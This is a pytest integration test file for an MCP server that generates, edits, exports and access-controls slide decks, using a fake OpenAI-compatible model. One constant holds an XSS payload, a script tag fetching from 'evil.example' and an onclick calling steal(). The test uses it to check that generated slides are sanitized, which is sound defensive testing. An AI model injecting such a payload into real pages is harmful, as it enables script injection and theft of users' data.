"""The MCP server as agents use it: the SDK's client over stdio against `python -m slidegen mcp`.

The server is a real subprocess acting as SLIDEGEN_USER on a database of each backend; its
model is the fake OpenAI-compatible server on 127.0.0.1, reached by the real openai client.
"""

from __future__ import annotations

import base64
import io
import sys
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import ClientSession, StdioServerParameters, stdio_client
from mcp.types import CallToolResult, EmbeddedResource
from pptx import Presentation
from sqlalchemy import select

from slidegen.config import Settings
from slidegen.db import migrate
from slidegen.db.database import Database
from slidegen.db.models import ChatRequest
from slidegen.deck import Deck, Slide
from slidegen.identity import User
from slidegen.services.decks.store import slide_title, store_deck
from slidegen.services.seed import seed_database
from tests.conftest import DatabaseFactory
from tests.factories import make_profile, make_session
from tests.fakes.openai_server import FakeOpenAIServer, Reply

ROOT = Path(__file__).resolve().parents[2]
ALICE = User(name="alice@example.com", display_name="Alice")
BOB = User(name="bob@example.com", display_name="Bob")
BARE_PROFILE = "bare"  # no data sources: the fake model is offered no tools
CALL_TIMEOUT_S = 60
TOOLS = {
    "generate_deck",
    "edit_deck",
    "get_deck",
    "list_decks",
    "export_deck",
    "list_profiles",
    "list_deck_prompts",
}
HOSTILE = '<script>fetch("https://evil.example")</script><p onclick="steal()">Click</p>'


def run_client(scenario: Any) -> Any:
    """Run an async client scenario on a fresh event loop in its own thread.

    Browser tests earlier in the same pytest process leave Playwright's loop running in the
    main thread, where a second loop cannot start.
    """
    outcome: dict[str, Any] = {}

    def target() -> None:
        try:
            outcome["value"] = anyio.run(scenario)
        except BaseException as exc:  # re-raised in the test's thread
            outcome["error"] = exc

    thread = threading.Thread(target=target)
    thread.start()
    thread.join()
    if "error" in outcome:
        raise outcome["error"]
    return outcome["value"]


@dataclass
class Setup:
    """A migrated, seeded database, the fake model, and the server's environment."""

    db: Database
    llm: FakeOpenAIServer
    env: dict[str, str]


@pytest.fixture(scope="module")
def setup(
    backend: str, databases: DatabaseFactory, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Setup]:
    url = databases.url(backend)
    db = Database(Settings(DATABASE_URL=url, SLIDEGEN_USER=ALICE.name, DATABRICKS_HOST=None))
    migrate.upgrade(db.engine)
    with db.scope() as session:
        seed_database(session, settings=db.settings)
        session.add(make_profile(BARE_PROFILE))
    with FakeOpenAIServer() as llm:
        env = {
            "PYTHONPATH": str(ROOT),
            "DATABASE_URL": url,
            "SLIDEGEN_USER": ALICE.name,
            "SLIDEGEN_LLM_PROVIDER": "openai",
            "SLIDEGEN_LLM_BASE_URL": llm.openai_base_url,
            "SLIDEGEN_LLM_MODEL": "gpt-fake",
            "SLIDEGEN_LLM_API_KEY": "sk-test-mcp",
            # MLflow rejects this at once: traces are not under test here.
            "MLFLOW_TRACKING_URI": "unusable-scheme://no-mlflow-in-these-tests",
        }
        yield Setup(db, llm, env)
    db.dispose()


@asynccontextmanager
async def connected(setup: Setup) -> AsyncIterator[ClientSession]:
    """A client session with a fresh `python -m slidegen mcp` subprocess."""
    server = StdioServerParameters(
        command=sys.executable, args=["-m", "slidegen", "mcp"], env=setup.env, cwd=ROOT
    )
    async with stdio_client(server) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        yield client


async def call(client: ClientSession, tool: str, **arguments: Any) -> CallToolResult:
    return await client.call_tool(tool, arguments, read_timeout_seconds=CALL_TIMEOUT_S)


def error_text(result: CallToolResult) -> str:
    assert result.is_error, result
    [content] = result.content
    return content.text


def slide(number: int, body: str = "", slide_id: str | None = None) -> str:
    marker = f' data-slide-id="{slide_id}"' if slide_id else ""
    return f'<section class="slide"{marker}><h1>Slide {number:02d}</h1>{body}</section>'


def latest_request_status(db: Database) -> str:
    with db.scope() as session:
        request = session.scalar(select(ChatRequest).order_by(ChatRequest.id.desc()).limit(1))
        return request.status if request else "none"


def test_the_server_lists_the_deck_tools(setup: Setup) -> None:
    async def scenario() -> set[str]:
        async with connected(setup) as client:
            return {tool.name for tool in (await client.list_tools()).tools}

    assert run_client(scenario) == TOOLS


def test_generate_with_progress_edit_two_slides_get_and_export(
    setup: Setup, tmp_path: Path
) -> None:
    first = slide(1, HOSTILE)
    deck = first + slide(2) + slide(3)
    gate = threading.Event()  # the fake holds the stream after slide 1 until released
    setup.llm.enqueue(Reply.text(deck, chunk_size=len(first), gate=gate))
    progress: list[tuple[float, str | None, str]] = []

    async def on_progress(value: float, total: float | None, message: str | None) -> None:
        # The job's state when the notification arrives: it must still be running.
        progress.append((value, message, latest_request_status(setup.db)))
        gate.set()

    async def scenario() -> dict[str, Any]:
        async with connected(setup) as client:
            made = await client.call_tool(
                "generate_deck",
                {"prompt": "Quarterly review", "profile": BARE_PROFILE},
                read_timeout_seconds=CALL_TIMEOUT_S,
                progress_callback=on_progress,
            )
            assert not made.is_error, made
            generated = made.structured_content
            ids = [s["slide_id"] for s in generated["slides"]]
            setup.llm.enqueue(
                Reply.text(
                    slide(22, "<p>Revised</p>", ids[1]) + slide(33, "<p>Revised</p>", ids[2])
                )
            )
            edited = await call(
                client,
                "edit_deck",
                session_id=generated["session_id"],
                instruction="Sharpen these two",
                slides=[2, 3],
            )
            assert not edited.is_error, edited
            got = await call(client, "get_deck", session_id=generated["session_id"])
            exported = await call(client, "export_deck", session_id=generated["session_id"])
            target = tmp_path / "deck.pptx"
            written = await call(
                client,
                "export_deck",
                session_id=generated["session_id"],
                format="pptx",
                path=str(target),
            )
            listed = await call(client, "list_decks", search="quarterly", scope="mine")
            return {
                "generated": generated,
                "edited": edited.structured_content,
                "got": got.structured_content,
                "exported": exported,
                "written": written,
                "target": target,
                "listed": listed.structured_content,
            }

    out = run_client(scenario)

    # One progress notification per stored slide, in order, while the job was still running.
    assert [(value, message) for value, message, _ in progress] == [
        (1, "Slide 1 stored: Slide 01"),
        (2, "Slide 2 stored: Slide 02"),
        (3, "Slide 3 stored: Slide 03"),
    ]
    assert progress[0][2] == "running"

    generated, edited, got = out["generated"], out["edited"], out["got"]
    assert [slide_title(s["html"]) for s in generated["slides"]] == [
        "Slide 01",
        "Slide 02",
        "Slide 03",
    ]
    assert "<script" not in generated["slides"][0]["html"]
    assert "onclick" not in generated["slides"][0]["html"]
    assert generated["profile_name"] == BARE_PROFILE

    # The edit changed exactly the two chosen slides, kept their ids, and made a save point.
    edit_request = setup.llm.chat_requests[-1].body["messages"][-1]["content"]
    ids = [s["slide_id"] for s in generated["slides"]]
    sent = [i for i in ids if f'data-slide-id="{i}"' in edit_request]  # the selected slides
    assert sent == ids[1:]
    assert [slide_title(s["html"]) for s in edited["slides"]] == [
        "Slide 01",
        "Slide 22",
        "Slide 33",
    ]
    assert [s["slide_id"] for s in edited["slides"]] == ids
    assert edited["versions"][0]["description"] == "Edited slides 2, 3"

    # get_deck returns the same deck: HTML, notes, chart specs, and the stored ratings.
    assert got["slides"] == edited["slides"]
    assert {"html", "notes", "charts", "slide_id"} <= set(got["slides"][0])
    verification = got["verification"]
    assert (got["version"], verification["version"]) == (edited["version"], edited["version"])
    assert [s["slide_id"] for s in verification["slides"]] == ids
    assert {s["rating"] for s in verification["slides"]} <= {"verified", "review", "problem"}

    # The export comes back as an embedded PPTX resource, or written where asked.
    text, resource = out["exported"].content
    assert isinstance(resource, EmbeddedResource)
    assert resource.resource.mime_type.endswith("presentationml.presentation")
    pptx = Presentation(io.BytesIO(base64.b64decode(resource.resource.blob)))
    assert len(pptx.slides) == 3
    assert "3 slides" in text.text
    assert len(Presentation(str(out["target"])).slides) == 3
    assert str(out["target"]) in out["written"].content[0].text

    assert [d["session_id"] for d in out["listed"]["items"]] == [generated["session_id"]]


def test_another_users_private_deck_is_missing_and_a_workspace_deck_is_read_only(
    setup: Setup,
) -> None:
    with setup.db.scope() as session:
        private = make_session(created_by=BOB.name, title="Bob's secret plan")
        public = make_session(created_by=BOB.name, title="Bob's team update")
        public.visibility = "workspace"
        session.add_all([private, public])
        session.flush()
        for row in (private, public):
            store_deck(
                session, row, Deck(slides=[Slide(html=slide(1))]), user=BOB, expected_version=0
            )
        private_id, public_id = private.session_id, public.session_id

    async def scenario() -> dict[str, CallToolResult]:
        async with connected(setup) as client:
            return {
                "get_private": await call(client, "get_deck", session_id=private_id),
                "export_private": await call(client, "export_deck", session_id=private_id),
                "edit_private": await call(
                    client, "edit_deck", session_id=private_id, instruction="Leak it"
                ),
                "get_public": await call(client, "get_deck", session_id=public_id),
                "edit_public": await call(
                    client, "edit_deck", session_id=public_id, instruction="Change it"
                ),
                "listed": await call(client, "list_decks", search="bob", scope="all"),
            }

    out = run_client(scenario)

    missing = f"Deck {private_id} does not exist or you don't have access to it."
    assert error_text(out["get_private"]) == missing
    assert error_text(out["export_private"]) == missing
    assert error_text(out["edit_private"]) == missing
    assert not out["get_public"].is_error
    assert out["get_public"].structured_content["my_right"] == "read"
    assert error_text(out["edit_public"]) == (
        f"You don't have access to edit deck {public_id}: you can only view it."
    )
    listed = out["listed"].structured_content["items"]
    assert [d["session_id"] for d in listed] == [public_id]


def test_profiles_and_deck_prompts_are_listed_and_bad_input_is_one_sentence(
    setup: Setup,
) -> None:
    async def scenario() -> dict[str, CallToolResult]:
        async with connected(setup) as client:
            return {
                "profiles": await call(client, "list_profiles"),
                "prompts": await call(client, "list_deck_prompts"),
                "scope": await call(client, "list_decks", scope="everything"),
                "empty": await call(client, "generate_deck", prompt="   "),
                "format": await call(client, "export_deck", session_id="x", format="doc"),
            }

    out = run_client(scenario)

    profiles = {p["name"] for p in out["profiles"].structured_content["profiles"]}
    assert profiles == {"default", BARE_PROFILE}
    prompts = {p["name"] for p in out["prompts"].structured_content["deck_prompts"]}
    assert "Quarterly Business Review" in prompts
    assert error_text(out["scope"]) == (
        "Unknown scope 'everything'; use one of: all, mine, shared, workspace."
    )
    assert error_text(out["empty"]) == "Say what the deck should be about."
    assert error_text(out["format"]) == "Unknown export format 'doc'; use pptx, html or pdf."
